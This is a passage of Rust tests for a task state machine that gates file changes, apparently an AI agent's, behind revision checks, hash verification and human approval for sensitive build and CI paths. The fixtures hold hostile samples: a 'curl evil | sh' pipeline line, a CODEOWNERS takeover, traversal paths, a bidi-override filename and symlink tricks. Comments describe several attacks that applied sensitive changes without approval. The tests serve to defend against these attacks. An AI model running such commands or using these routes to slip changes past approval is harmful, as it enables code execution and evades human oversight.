            TaskCommand::Create { command_id: "create".into(), config: config(), workspace: Manifest::default() },
            &mut s,
        )
        .unwrap();
        s
    }

    fn propose(rev: u64, files: &[(&str, &str)]) -> TaskCommand {
        TaskCommand::Propose {
            command_id: format!("p{rev}"),
            expected_revision: rev,
            files: files.iter().map(|(p, c)| FileContent { path: p.to_string(), content: c.to_string() }).collect(),
        }
    }

    fn intent(s: &Option<TaskState>, id: &str, paths: Option<Vec<&str>>) -> TaskCommand {
        let s = s.as_ref().unwrap();
        TaskCommand::ApplyIntent {
            command_id: id.into(),
            expected_revision: s.revision,
            paths: paths.map(|p| p.into_iter().map(String::from).collect()),
            change_digest: s.proposal.as_ref().map(|p| p.change_digest.clone()).unwrap_or_default(),
            cleared_by: None,
        }
    }

    fn confirm(s: &Option<TaskState>, id: &str) -> TaskCommand {
        let s = s.as_ref().unwrap();
        let written: Vec<FileHash> = s.proposal.as_ref().unwrap().files.iter().map(ProposedFile::hash).collect();
        TaskCommand::ApplyConfirmed {
            command_id: id.into(),
            expected_revision: s.revision,
            workspace: s.workspace.with_written(&written, &[]),
            written,
        }
    }

    fn apply_all(s: &mut Option<TaskState>, id: &str) {
        let cmd = intent(s, id, None);
        run(cmd, s).unwrap();
        let cmd = confirm(s, id);
        run(cmd, s).unwrap();
    }

    fn result(exit_code: i32) -> CheckResult {
        CheckResult {
            exit_code: Some(exit_code),
            timed_out: false,
            duration_ms: 12,
            output_sha256: sha256_hex(b"out"),
            output_bytes: 3,
            output_tail: "out".into(),
            sandbox: "test".into(),
            limits: String::new(),
            limit_hit: None,
        }
    }

    fn check(s: &Option<TaskState>, id: &str, exit_code: i32) -> TaskCommand {
        let s = s.as_ref().unwrap();
        TaskCommand::CheckRecorded {
            command_id: id.into(),
            expected_revision: s.revision,
            result: result(exit_code),
            before: s.workspace.clone(),
            after: s.workspace.clone(),
        }
    }

    fn finish(s: &Option<TaskState>) -> TaskCommand {
        let s = s.as_ref().unwrap();
        TaskCommand::Finish {
            command_id: "f".into(),
            expected_revision: s.revision,
            workspace: s.workspace.clone(),
            delivered: None,
        }
    }

    /// A refusal leaves the state exactly as it was and names the state and the command.
    fn refused(cmd: TaskCommand, s: &mut Option<TaskState>, code: &str, needles: &[&str]) -> TaskRefusal {
        let before = s.clone();
        let r = run(cmd.clone(), s).expect_err("the command must be refused");
        assert_eq!(*s, before, "a refusal changed the state");
        assert_eq!(r.code, code, "{r}");
        assert!(r.message.contains(&format!("cannot {} task {T}", cmd.verb())), "{r}");
        for n in needles {
            assert!(r.message.contains(n), "`{n}` missing from: {r}");
        }
        r
    }

    #[test]
    fn the_happy_path_gives_four_accepted_events_and_verifies_the_current_revision() {
        let mut s = created();
        let mut log = Vec::new();
        log.extend(run(propose(0, &[("src/lib.rs", "fn main() {}\n")]), &mut s).unwrap());
        let i = intent(&s, "a1", Some(vec!["src/lib.rs"]));
        log.extend(run(i, &mut s).unwrap());
        log.extend(run(confirm(&s, "a1"), &mut s).unwrap());
        assert!(run(TaskCommand::Check { command_id: "c1".into(), expected_revision: 2 }, &mut s).unwrap().is_empty());
        log.extend(run(check(&s, "c1", 0), &mut s).unwrap());
        log.extend(run(finish(&s), &mut s).unwrap());
        let st = s.clone().unwrap();
        assert_eq!(
            (st.status, st.revision, st.verified_revision, st.accepted_events),
            (TaskStatus::Finished, 2, Some(2), 4)
        );
        assert_eq!(log.len(), 5, "proposed, apply intended, applied, checked, finished");
        // The same events always replay to the same state.
        let created = transition(
            T,
            None,
            &TaskCommand::Create { command_id: "create".into(), config: config(), workspace: Manifest::default() },
            0,
        )
        .unwrap();
        let all: Vec<TaskEvent> = created.into_iter().chain(log).collect();
        assert_eq!(replay(&all), s);
        // And through the journal's JSON form.
        let reparsed: Vec<TaskEvent> =
            all.iter().map(|e| TaskEvent::from_journal(e.kind(), &e.data()).unwrap().unwrap()).collect();
        assert_eq!(reparsed, all);
        assert!(all.iter().all(|e| e.data()["task_id"] == T));
    }

    #[test]
    fn finish_from_idle_is_refused() {
        let mut s = created();
        let r = refused(finish(&s), &mut s, "wrong_state", &["`idle`", "revision 0", "verified at none"]);
        assert_eq!(
            r.message,
            "cannot finish task t1: it is `idle` (revision 0, verified at none); finish needs `verified` at the current revision"
        );
    }

    #[test]
    fn apply_with_other_paths_than_proposed_is_refused() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        refused(intent(&s, "x", Some(vec!["b.txt"])), &mut s, "path_mismatch", &["`planned`", "`b.txt`", "`a.txt`"]);
        refused(intent(&s, "x", Some(vec!["a.txt", "a.txt"])), &mut s, "path_mismatch", &[]);
        refused(intent(&s, "x", Some(vec![])), &mut s, "path_mismatch", &[]);
        run(intent(&s, "x", Some(vec!["a.txt"])), &mut s).unwrap();
    }

    #[test]
    fn finish_after_apply_without_a_check_is_refused() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        apply_all(&mut s, "a1");
        refused(finish(&s), &mut s, "wrong_state", &["`changed` (revision 2, verified at none)"]);
    }

    #[test]
    fn finish_after_a_failed_check_is_refused_and_the_revision_is_not_checked_twice() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        apply_all(&mut s, "a1");
        run(check(&s, "c1", 1), &mut s).unwrap();
        let st = s.clone().unwrap();
        assert_eq!(
            (st.status, st.verified_revision, st.last_check.unwrap().passed),
            (TaskStatus::Changed, None, false)
        );
        refused(finish(&s), &mut s, "wrong_state", &["`changed`"]);
        refused(check(&s, "c2", 0), &mut s, "already_checked", &["revision 2 was already checked", "failed"]);
        refused(TaskCommand::Check { command_id: "c2".into(), expected_revision: 2 }, &mut s, "already_checked", &[]);
    }

    #[test]
    fn a_timed_out_check_does_not_pass_even_with_exit_code_zero() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        apply_all(&mut s, "a1");
        let mut r = result(0);
        r.timed_out = true;
        let ws = s.as_ref().unwrap().workspace.clone();
        let cmd = TaskCommand::CheckRecorded {
            command_id: "c".into(),
            expected_revision: 2,
            result: r,
            before: ws.clone(),
            after: ws,
        };
        run(cmd, &mut s).unwrap();
        assert_eq!(s.as_ref().unwrap().status, TaskStatus::Changed);
    }

    #[test]
    fn another_apply_after_a_passing_check_invalidates_it() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        apply_all(&mut s, "a1");
        run(check(&s, "c1", 0), &mut s).unwrap();
        assert_eq!(s.as_ref().unwrap().status, TaskStatus::Verified);
        run(propose(2, &[("a.txt", "b")]), &mut s).unwrap();
        refused(finish(&s), &mut s, "wrong_state", &["`planned` (revision 3, verified at 2)"]);
        apply_all(&mut s, "a2");
        refused(finish(&s), &mut s, "wrong_state", &["`changed` (revision 4, verified at 2)"]);
        run(check(&s, "c2", 0), &mut s).unwrap();
        run(finish(&s), &mut s).unwrap();
        let st = s.clone().unwrap();
        assert_eq!((st.revision, st.verified_revision, st.accepted_events), (4, Some(4), 7));
        for cmd in [propose(4, &[("a", "a")]), finish(&s)] {
            refused(cmd, &mut s, "wrong_state", &["`finished`", "no more commands"]);
        }
    }

    #[test]
    fn a_stale_expected_revision_is_refused() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        // Two agents both acting on revision 0: the second is stale.
        refused(propose(0, &[("a.txt", "b")]), &mut s, "stale_revision", &["expected revision 0", "(revision 1,"]);
        let mut late = intent(&s, "x", None);
        if let TaskCommand::ApplyIntent { expected_revision, .. } = &mut late {
            *expected_revision = 0;
        }
        refused(late, &mut s, "stale_revision", &[]);
    }

    #[test]
    fn commands_on_a_missing_task_and_a_second_create_are_refused() {
        let mut s = None;
        refused(propose(0, &[("a", "a")]), &mut s, "unknown_task", &["no such task"]);
        let mut s = created();
        refused(
            TaskCommand::Create { command_id: "c".into(), config: config(), workspace: Manifest::default() },
            &mut s,
            "task_exists",
            &["`idle`"],
        );
        let mut bad = config();
        bad.workspace = "relative".into();
        let mut none = None;
        refused(
            TaskCommand::Create { command_id: "c".into(), config: bad, workspace: Manifest::default() },
            &mut none,
            "bad_input",
            &[],
        );
    }

    #[test]
    fn an_intended_apply_blocks_other_commands_until_it_is_confirmed() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        run(intent(&s, "a1", None), &mut s).unwrap();
        let st = s.clone().unwrap();
        assert_eq!((st.status, st.revision, st.accepted_events), (TaskStatus::Planned, 1, 1), "intended, not applied");
        assert!(st.describe().contains("apply `a1` intended and not confirmed"));
        refused(intent(&s, "a2", None), &mut s, "apply_pending", &["re-run `task apply --command-id a1`"]);
        refused(propose(1, &[("a.txt", "b")]), &mut s, "apply_pending", &[]);
        refused(confirm(&s, "a2"), &mut s, "not_applying", &[]);
        run(confirm(&s, "a1"), &mut s).unwrap();
        let again = TaskCommand::ApplyConfirmed {
            command_id: "a1".into(),
            expected_revision: 1,
            written: Vec::new(),
            workspace: Manifest::default(),
        };
        refused(again, &mut s, "stale_revision", &[]);
    }

    #[test]
    fn written_hashes_must_match_the_proposal() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a"), ("b.txt", "b")]), &mut s).unwrap();
        run(intent(&s, "a1", None), &mut s).unwrap();
        let mut cmd = confirm(&s, "a1");
        if let TaskCommand::ApplyConfirmed { written, .. } = &mut cmd {
            written[1].sha256 = sha256_hex(b"evil");
        }
        refused(cmd, &mut s, "hash_mismatch", &["`b.txt` was written with sha256"]);
        let mut cmd = confirm(&s, "a1");
        if let TaskCommand::ApplyConfirmed { written, .. } = &mut cmd {
            written.pop();
        }
        refused(cmd, &mut s, "hash_mismatch", &[]);
    }

    #[test]
    fn a_proposal_replaced_after_the_executor_read_it_is_refused() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        let mut cmd = intent(&s, "a1", None);
        if let TaskCommand::ApplyIntent { change_digest, .. } = &mut cmd {
            *change_digest = "0".repeat(64);
        }
        refused(cmd, &mut s, "proposal_changed", &[]);
    }

    #[test]
    fn a_pending_proposal_can_be_replaced_at_its_revision() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        let events = run(propose(1, &[("a.txt", "fixed")]), &mut s).unwrap();
        let TaskEvent::Proposed(p) = &events[0] else { panic!() };
        assert_eq!((p.revision, p.replaces.as_deref()), (2, Some("p0")));
    }

    #[test]
    fn check_and_apply_are_refused_in_the_wrong_state() {
        let mut s = created();
        refused(check(&s, "c", 0), &mut s, "wrong_state", &["check needs `changed`"]);
        refused(intent(&s, "a", None), &mut s, "wrong_state", &["apply needs `planned`"]);
        refused(confirm_without_proposal(&s), &mut s, "not_applying", &[]);
    }

    fn confirm_without_proposal(s: &Option<TaskState>) -> TaskCommand {
        let rev = s.as_ref().unwrap().revision;
        TaskCommand::ApplyConfirmed {
            command_id: "a".into(),
            expected_revision: rev,
            written: Vec::new(),
            workspace: Manifest::default(),
        }
    }

    #[test]
    fn unsafe_paths_are_refused_at_proposal() {
        let bad = [
            "/etc/passwd",
            "../x",
            "a/../../x",
            "a//b",
            "a/",
            "./a",
            "",
            "a\0b",
            "a\\..\\b",
            ".git/hooks/pre-commit",
            "sub/.GIT/config",
            "new\nline",
        ];
        for path in bad {
            let mut s = created();
            refused(propose(0, &[(path, "x")]), &mut s, "unsafe_path", &["`idle`"]);
        }
        let mut s = created();
        refused(propose(0, &[("a", "x"), ("a", "y")]), &mut s, "unsafe_path", &["twice"]);
        refused(propose(0, &[("a", "x"), ("a/b", "y")]), &mut s, "unsafe_path", &["directory"]);
        refused(propose(0, &[]), &mut s, "unsafe_path", &["at least one file"]);
        let big = "x".repeat(MAX_CHANGE_BYTES + 1);
        refused(propose(0, &[("a", &big)]), &mut s, "unsafe_path", &["bytes"]);
        for ok in ["a", "src/lib.rs", ".gitignore", "a..b/c", "dir/.env.example"] {
            assert_eq!(check_path(ok), Ok(()), "{ok}");
        }
    }

    #[test]
    fn ids_are_checked() {
        let mut s = created();
        let cmd = TaskCommand::Finish {
            command_id: "bad id".into(),
            expected_revision: 0,
            workspace: Manifest::default(),
            delivered: None,
        };
        refused(cmd, &mut s, "bad_input", &["command id"]);
    }

    #[test]
    fn sensitive_globs_match_as_documented() {
        let g = |glob, path| glob_match(glob, path);
        assert!(g(".ci/**", ".ci/run"));
        assert!(g(".ci/**", ".ci/a/b.sh"));
        assert!(!g("/.ci/**", "src/.ci/run"));
        assert!(g("Cargo.toml", "Cargo.toml"));
        assert!(g("Cargo.toml", "crates/x/Cargo.toml"));
        assert!(!g("Cargo.toml", "Cargo.toml.bak"));
        assert!(g("**/.env*", ".env"));
        assert!(g("**/.env*", "app/.env.local"));
        assert!(!g("**/.env*", "app/env"));
        assert!(g("**/*.key", "k/server.key"));
        assert!(g("src/*.rs", "src/lib.rs"));
        assert!(!g("src/*.rs", "src/a/lib.rs"));
        assert!(g("a?c", "x/abc"));
        // Case is ignored: a case-insensitive filesystem writes these over the sensitive files.
        assert!(g("Cargo.toml", "CARGO.TOML"));
        assert!(g(".ci/**", ".CI/deploy.yml"));
        assert!(g("**/.env*", "app/.ENV.local"));
        let defaults = |p: &str| DEFAULT_SENSITIVE.iter().any(|d| glob_match(d, p));
        for p in [
            ".github/workflows/ci.yml",
            ".cargo/config.toml",
            "crates/x/.cargo/config.toml",
            "build.rs",
            "crates/x/build.rs",
            "rust-toolchain.toml",
            "Makefile",
            "makefile",
            "sub/rules.mk",
            "package.json",
            ".CI/x",
            "CARGO.TOML",
        ] {
            assert!(defaults(p), "`{p}` is not sensitive by default");
        }
        for p in ["src/lib.rs", "README.md", "test.sh", "docs/build.md"] {
            assert!(!defaults(p), "`{p}` is sensitive by default");
        }
        let mut s = created();
        run(propose(0, &[("src/lib.rs", "x"), ("crates/a/Cargo.toml", "y"), (".ci/run", "z")]), &mut s).unwrap();
        assert_eq!(sensitive_paths(&s.unwrap()), vec!["crates/a/Cargo.toml".to_string(), ".ci/run".to_string()]);
    }

    #[test]
    fn fingerprints_ignore_what_the_executor_fills_in() {
        let a = TaskCommand::ApplyIntent {
            command_id: "a".into(),
            expected_revision: 1,
            paths: Some(vec!["x".into(), "y".into()]),
            change_digest: "1".into(),
            cleared_by: None,
        };
        let b = TaskCommand::ApplyIntent {
            command_id: "a".into(),
            expected_revision: 1,
            paths: Some(vec!["y".into(), "x".into()]),
            change_digest: "2".into(),
            cleared_by: Some(7),
        };
        assert_eq!(a.fingerprint(), b.fingerprint());
        let c = TaskCommand::ApplyIntent {
            command_id: "a".into(),
            expected_revision: 2,
            paths: None,
            change_digest: "1".into(),
            cleared_by: None,
        };
        assert_ne!(a.fingerprint(), c.fingerprint());
        let check = TaskCommand::Check { command_id: "c".into(), expected_revision: 2 };
        let recorded = TaskCommand::CheckRecorded {
            command_id: "c".into(),
            expected_revision: 2,
            result: result(1),
            before: Manifest::default(),
            after: Manifest::default(),
        };
        assert_eq!(check.fingerprint(), recorded.fingerprint());
        assert_ne!(propose(0, &[("a", "x")]).fingerprint(), propose(0, &[("a", "y")]).fingerprint());
    }

    #[test]
    fn the_reducer_ignores_events_that_do_not_fit() {
        let s = created();
        let other = TaskEvent::Finished(TaskFinished {
            task_id: "other".into(),
            command_id: "f".into(),
            revision: 0,
            workspace_digest: String::new(),
            delivered: None,
            by: None,
        });
        assert_eq!(apply(s.clone(), &other), s);
        assert_eq!(apply(None, &other), None);
    }

    fn entry(path: &str, content: &str) -> ManifestEntry {
        ManifestEntry {
            path: path.into(),
            kind: EntryKind::File,
            sha256: sha256_hex(content.as_bytes()),
            bytes: content.len() as u64,
            mode: NEW_FILE_MODE,
        }
    }

    /// A task created on a workspace holding `README`, with `a.txt` applied and checked (passed) at revision 2.
    fn verified() -> Option<TaskState> {
        let mut s = None;
        let base = Manifest::new(vec![entry("README", "hi\n")]);
        run(TaskCommand::Create { command_id: "create".into(), config: config(), workspace: base }, &mut s).unwrap();
        run(propose(0, &[("a.txt", "good\n")]), &mut s).unwrap();
        apply_all(&mut s, "a1");
        run(check(&s, "c1", 0), &mut s).unwrap();
        assert_eq!(s.as_ref().unwrap().status, TaskStatus::Verified);
        s
    }

    #[test]
    fn finish_refuses_a_workspace_that_drifted_from_the_checked_revision() {
        let mut s = verified();
        let ws = s.as_ref().unwrap().workspace.clone();
        assert_eq!(ws.files.len(), 2, "the baseline plus the applied file");
        let mut drifted =
            ws.with_written(&[FileHash { path: "a.txt".into(), sha256: sha256_hex(b"evil"), bytes: 4 }], &[]);
        drifted.files.push(entry("zz.txt", "planted"));
        let drifted = Manifest::new(drifted.files);
        let cmd =
            TaskCommand::Finish { command_id: "f".into(), expected_revision: 2, workspace: drifted, delivered: None };
        let r = refused(cmd, &mut s, "workspace_drift", &["`a.txt`", "`zz.txt`", "2 file(s)"]);
        assert!(!r.message.contains("README"), "{r}");
        // A removed file is drift too.
        let mut gone = ws.clone();
        gone.files.retain(|e| e.path != "README");
        let cmd =
            TaskCommand::Finish { command_id: "f".into(), expected_revision: 2, workspace: gone, delivered: None };
        refused(cmd, &mut s, "workspace_drift", &["`README`"]);
        run(finish(&s), &mut s).unwrap();
    }

    #[test]
    fn a_check_is_refused_on_a_workspace_that_is_not_the_revision_and_fails_when_it_changes_it() {
        let mut s = created();
        run(propose(0, &[("a.txt", "bad\n")]), &mut s).unwrap();
        apply_all(&mut s, "a1");
        let ws = s.as_ref().unwrap().workspace.clone();
        let hand = ws.with_written(&[FileHash { path: "a.txt".into(), sha256: sha256_hex(b"good\n"), bytes: 5 }], &[]);
        let cmd = TaskCommand::CheckRecorded {
            command_id: "c1".into(),
            expected_revision: 2,
            result: result(0),
            before: hand,
            after: ws.clone(),
        };
        refused(cmd, &mut s, "workspace_drift", &["did not run on revision 2", "`a.txt`"]);
        let mut after = ws.clone();
        after.files.push(entry(".ci/deploy.yml", "x"));
        let cmd = TaskCommand::CheckRecorded {
            command_id: "c1".into(),
            expected_revision: 2,
            result: result(0),
            before: ws,
            after: Manifest::new(after.files),
        };
        run(cmd, &mut s).unwrap();
        let st = s.unwrap();
        let last = st.last_check.unwrap();
        assert_eq!((st.status, last.passed, last.changed), (TaskStatus::Changed, false, vec![".ci/deploy.yml".into()]));
    }

    #[test]
    fn an_apply_must_leave_exactly_the_previous_workspace_with_the_change_set_in_place() {
        let mut s = created();
        run(propose(0, &[("a.txt", "a")]), &mut s).unwrap();
        run(intent(&s, "a1", None), &mut s).unwrap();
        let mut cmd = confirm(&s, "a1");
        if let TaskCommand::ApplyConfirmed { workspace, .. } = &mut cmd {
            workspace.files.push(entry("zz/deploy.yml", "x"));
        }
        refused(cmd, &mut s, "workspace_drift", &["`zz/deploy.yml`", "re-run `task apply --command-id a1`"]);
        run(confirm(&s, "a1"), &mut s).unwrap();
        assert_eq!(s.unwrap().workspace.files, vec![entry("a.txt", "a")]);
    }

    fn link(path: &str, target: &str) -> ManifestEntry {
        ManifestEntry {
            path: path.into(),
            kind: EntryKind::Symlink,
            sha256: sha256_hex(target.as_bytes()),
            bytes: target.len() as u64,
            mode: 0,
        }
    }

    /// A manifest holding these symlinks (path, target), their targets recorded as the workspace walk records them.
    fn with_links(mut files: Vec<ManifestEntry>, links: &[(&str, &str)]) -> Manifest {
        files.extend(links.iter().map(|(p, t)| link(p, t)));
        let recorded = links.iter().map(|(p, t)| (p.to_string(), t.to_string())).collect();
        Manifest::new(files).with_links(recorded)
    }

    fn created_on(workspace: Manifest) -> Result<Option<TaskState>, TaskRefusal> {
        let mut s = None;
        run(TaskCommand::Create { command_id: "create".into(), config: config(), workspace }, &mut s)?;
        Ok(s)
    }

    /// Attack 12, H2 (F565): a symlink of the workspace whose own name is sensitive made an innocent path the same
    /// file: `build.rs -> notes.txt` turned a change to `notes.txt` into a change of the build script (and
    /// `.github/workflows -> ../ci` one to `ci/deploy.yml` into a pipeline), classified ordinary, applied unapproved.
    #[test]
    fn a_change_reached_through_a_sensitive_symlink_is_sensitive() {
        let base = with_links(
            vec![entry("notes.txt", "n"), entry("src/gen.mk", "x")],
            &[
                ("build.rs", "notes.txt"),
                (".github/workflows", "../ci"),
                ("sub/Makefile", "../src/gen.mk"),
                // A chain: `lib` is `inner`, and `inner/Cargo.toml` (through `lib/x`) is `stuff/x`.
                ("inner", "stuff"),
                ("lib/Cargo.toml", "../inner/x"),
                // A relative target that climbs and comes back (absolute targets are refused at create, ADR-363).
                ("CODEOWNERS", "sub/../docs/owners.txt"),
                // The workspace itself under a sensitive name: every file is reachable below it.
                (".ci", "."),
            ],
        );
        let mut s = created_on(base.clone()).unwrap();
        let files = [
            ("notes.txt", "fn main() { evil() }"),
            ("ci/deploy.yml", "run: curl evil | sh"),
            ("src/gen.mk", "all:\n\tevil\n"),
            ("stuff/x", "[build]"),
            ("docs/owners.txt", "* @mallory"),
        ];
        run(propose(0, &files), &mut s).unwrap();
        let mut got = sensitive_paths(s.as_ref().unwrap());
        got.sort();
        assert_eq!(got, vec!["ci/deploy.yml", "docs/owners.txt", "notes.txt", "src/gen.mk", "stuff/x"]);
        // Without the link to the workspace itself, an innocent file away from every link stays ordinary.
        let mut fewer = base.clone();
        fewer.files.retain(|e| e.path != ".ci");
        fewer.links.remove(".ci");
        let mut s = created_on(fewer).unwrap();
        run(propose(0, &[("notes.txt", "x"), ("src/lib.rs", "fn f() {}"), ("ci2/x.yml", "y")]), &mut s).unwrap();
        assert_eq!(sensitive_paths(s.as_ref().unwrap()), vec!["notes.txt"]);
        // The names follow a link the other way too (`notes -> build.rs`), though propose refuses writing one.
        let m = with_links(vec![], &[("notes", "build.rs"), ("docs", ".github")]);
        let names = aliases(&m, "/work/repo", "notes").unwrap();
        assert!(names.contains("build.rs"), "{names:?}");
        assert!(aliases(&m, "/work/repo", "docs/workflows/x.yml").unwrap().contains(".github/workflows/x.yml"));
        // Case is folded as a case-insensitive filesystem would: `BUILD.rs -> NOTES.txt` reaches `notes.txt`.
        let m = with_links(vec![], &[("BUILD.RS", "NOTES.TXT")]);
        assert!(aliases(&m, "/work/repo", "notes.txt").unwrap().contains("BUILD.RS"));
        // A cycle of links is bounded (the kernel refuses such a path: `ELOOP`).
        let m = with_links(vec![], &[("a", "a/b")]);
        assert!(aliases(&m, "/work/repo", "a/b/c").is_none_or(|n| n.len() <= MAX_ALIASES));
    }

    /// A manifest written before link targets were recorded (a task created by an older version) holds a symlink
    /// whose target the rules cannot know: every change of such a revision is sensitive.
    #[test]
    fn a_symlink_whose_target_is_not_recorded_makes_every_change_sensitive() {
        let mut base = Manifest::new(vec![entry("notes.txt", "n"), link("build.rs", "notes.txt")]);
        base.links.clear();
        let created = TaskEvent::Created(TaskCreated {
            task_id: T.into(),
            command_id: "create".into(),
            config: config(),
            workspace: base,
            by: None,
        });
        let mut s = apply(None, &created);
        run(propose(0, &[("src/lib.rs", "x")]), &mut s).unwrap();
        assert_eq!(sensitive_paths(s.as_ref().unwrap()), vec!["src/lib.rs"]);
    }

    /// Attack 14 (F66): an absolute link into the workspace (`build.rs -> /work/repo/build_impl.rs`, also spelled
    /// `//work/repo/..`, `/work/repo/./x`) was accepted at create; the check read its copy, but finish delivered the
    /// link as it was, so the delivered `build.rs` read the live workspace — code edited after the check, never
    /// proposed, approved or checked. A link into a `--writable` directory read scratch space the manifest leaves out.
    /// Both are refused at create; relative links inside the revision still work.
    #[test]
    fn absolute_links_and_links_into_writable_directories_are_refused_at_create() {
        for target in ["/work/repo/build_impl.rs", "//work/repo/build_impl.rs", "/work/repo/./x", "/work/repo"] {
            let r = created_on(with_links(vec![entry("build_impl.rs", "x")], &[("build.rs", target)])).unwrap_err();
            assert_eq!(r.code, "bad_input", "{r}");
            assert!(r.message.contains("absolute target"), "build.rs -> {target}: {r}");
        }
        let mut c = config();
        c.writable = vec!["target".into()];
        for target in ["target/b.rs", "target", "./target/../target/x"] {
            let mut s = None;
            let workspace = with_links(vec![], &[("build.rs", target)]);
            let r = run(TaskCommand::Create { command_id: "create".into(), config: c.clone(), workspace }, &mut s)
                .unwrap_err();
            assert!(r.message.contains("leads into a --writable directory"), "build.rs -> {target}: {r}");
        }
        created_on(with_links(vec![entry("build_impl.rs", "x")], &[("build.rs", "build_impl.rs")])).unwrap();
    }

    /// ADR-565: `create` refuses a baseline with a symlink that leads outside the workspace, or whose target the
    /// manifest does not record as its entry hashes it; and propose refuses a path that is, or goes through, a
    /// symlink of the revision (over the API too, where the propose endpoint never touches the disk).
    #[test]
    fn symlinks_leading_outside_are_refused_at_create_and_paths_through_one_at_propose() {
        for (path, target) in
            [("out", "/etc"), ("up", "../x"), ("deep/up", "../../x"), ("abs", "/work/repository/x"), ("p", "/work")]
        {
            let r = created_on(with_links(vec![], &[(path, target)])).unwrap_err();
            assert_eq!(r.code, "bad_input", "{r}");
            assert!(r.message.contains("leads outside the workspace"), "{path} -> {target}: {r}");
        }
        let mut unrecorded = with_links(vec![], &[("x", "y")]);
        unrecorded.links.clear();
        assert!(created_on(unrecorded).unwrap_err().message.contains("without its target"));
        let mut lying = with_links(vec![], &[("x", "y")]);
        lying.links.insert("x".into(), "build.rs".into());
        assert!(created_on(lying).unwrap_err().message.contains("not the one its entry hashes"));
        let mut stray = with_links(vec![], &[]);
        stray.links.insert("x".into(), "y".into());
        assert!(created_on(stray).unwrap_err().message.contains("not a symlink"));
        // Inside: relative, `..` that stays inside, dangling.
        let base = with_links(vec![], &[("notes", "build.rs"), ("docs", "sub/../.github"), ("gone", "nowhere")]);
        let mut s = created_on(base).unwrap();
        for path in ["notes", "docs/workflows/x.yml"] {
            let r = refused(propose(0, &[(path, "x")]), &mut s, "unsafe_path", &["goes through the symlink"]);
            assert!(r.message.contains("(to `"), "{r}");
        }
        run(propose(0, &[("nowhere", "x")]), &mut s).unwrap();
        assert_eq!(sensitive_paths(s.as_ref().unwrap()), Vec::<String>::new());
    }

    #[test]
    fn visible_shows_controls_and_bidi_overrides() {
        assert_eq!(visible("a.txt"), "a.txt");
        assert_eq!(visible("evil\u{202e}txt.sh"), "evil\\u{202e}txt.sh");
        assert_eq!(visible("\u{1b}[2J"), "\\u{1b}[2J");
        assert_eq!(visible("tab\there"), "tab\\u{9}here");
        assert_eq!(visible("back\\slash"), "back\\\\slash");
        assert_eq!(visible("zero\u{200b}width"), "zero\\u{200b}width");
        assert_eq!(visible("naïve ünïcode"), "naïve ünïcode");
        let many: Vec<String> = (0..25).map(|i| format!("f{i}")).collect();
        assert!(name_paths(&many).ends_with("`f19`, 5 more"), "{}", name_paths(&many));
    }

    /// F205: the lock file and the test runners' own configuration decide what code a check builds and runs.
    /// F242: the CI, build and test-runner control files outside attack 4 changed without approval, and a glob
    /// with `/` (`.config/nextest.toml`) matching only at the root.
    #[test]
    fn the_default_sensitive_list_covers_ci_build_files_and_globs_match_at_any_depth() {
        let defaults = |p: &str| DEFAULT_SENSITIVE.iter().any(|d| glob_match(d, p));
        for p in [
            ".yarnrc.yml",
            ".vscode/tasks.json",
            ".devcontainer/devcontainer.json",
            ".devcontainer/Dockerfile",
            "Jenkinsfile",
            ".travis.yml",
            "azure-pipelines.yml",
            "bitbucket-pipelines.yml",
            ".gitlab/ci/build.yml",
            ".husky/pre-commit",
            "gradlew",
            "build.gradle",
            "app/build.gradle.kts",
            "pom.xml",
            "CMakeLists.txt",
            "meson.build",
            "BUILD.bazel",
            ".bazelrc",
            "go.mod",
            "requirements.txt",
            "requirements-dev.txt",
            "Gemfile",
            "Rakefile",
            ".pytest.ini",
            "jest.config.js",
            "vitest.config.ts",
            "Dockerfile.dev",
            "xtask/src/main.rs",
            "sub/.config/nextest.toml",
            "sub/.github/workflows/ci.yml",
        ] {
            assert!(defaults(p), "`{p}` is not sensitive by default");
        }
        for p in ["src/lib.rs", "tests/test_a.py", "docs/build.md", "src/xtask.rs", "config.toml"] {
            assert!(!defaults(p), "`{p}` is sensitive by default");
        }
        // A glob with a leading `/` is rooted; without it, it matches at any depth.
        assert!(glob_match(".ci/**", "sub/.ci/run"));
        assert!(glob_match("/.ci/**", ".ci/run"));
        assert!(!glob_match("/.ci/**", "sub/.ci/run"));
        assert!(glob_match("/Cargo.toml", "Cargo.toml"));
        assert!(!glob_match("/Cargo.toml", "crates/x/Cargo.toml"));
        assert!(glob_match("src/*.rs", "crates/a/src/lib.rs"));
        assert!(!glob_match("src/*.rs", "src/a/lib.rs"));
    }

    #[test]
    fn a_planted_bare_git_repository_needs_a_human() {
        let defaults = |p: &str| DEFAULT_SENSITIVE.iter().any(|d| glob_match(d, p));
        for p in ["x/HEAD", "HEAD", "deep/er/x/HEAD", "x/head"] {
            assert!(defaults(p), "`{p}` (a bare repository's HEAD) is not sensitive by default");
        }
        assert!(!defaults("x/headers.h") && !defaults("src/README"), "only HEAD itself");
    }

    /// attack9 H3: build and CI control files that run code on the next build or pipeline, applied with no human
    /// approval because the default list missed them (the 31 of the report, then their families).
    #[test]
    fn the_default_sensitive_list_covers_the_build_and_ci_files_attack9_applied_unapproved() {
        let defaults = |p: &str| DEFAULT_SENSITIVE.iter().any(|d| glob_match(d, p));
        let attack9 = [
            "configure",
            "configure.ac",
            "Makefile.in",
            "Makefile.am",
            "build.sbt",
            "project/plugins.sbt",
            "build.xml",
            "mix.exs",
            "Package.swift",
            "build.zig",
            "src/App/App.csproj",
            "Directory.Build.props",
            "composer.json",
            ".pnpmfile.cjs",
            "lefthook.yml",
            ".justfile",
            ".buildkite/pipeline.yml",
            ".drone.yml",
            "appveyor.yml",
            ".woodpecker.yml",
            "cloudbuild.yaml",
            "buildspec.yml",
            "docker-compose.yml",
            "compose.yaml",
            "Taskfile.yml",
            ".mise.toml",
            "flake.nix",
            "CODEOWNERS",
            "SConstruct",
            "x.gemspec",
            "gradle.properties",
        ];
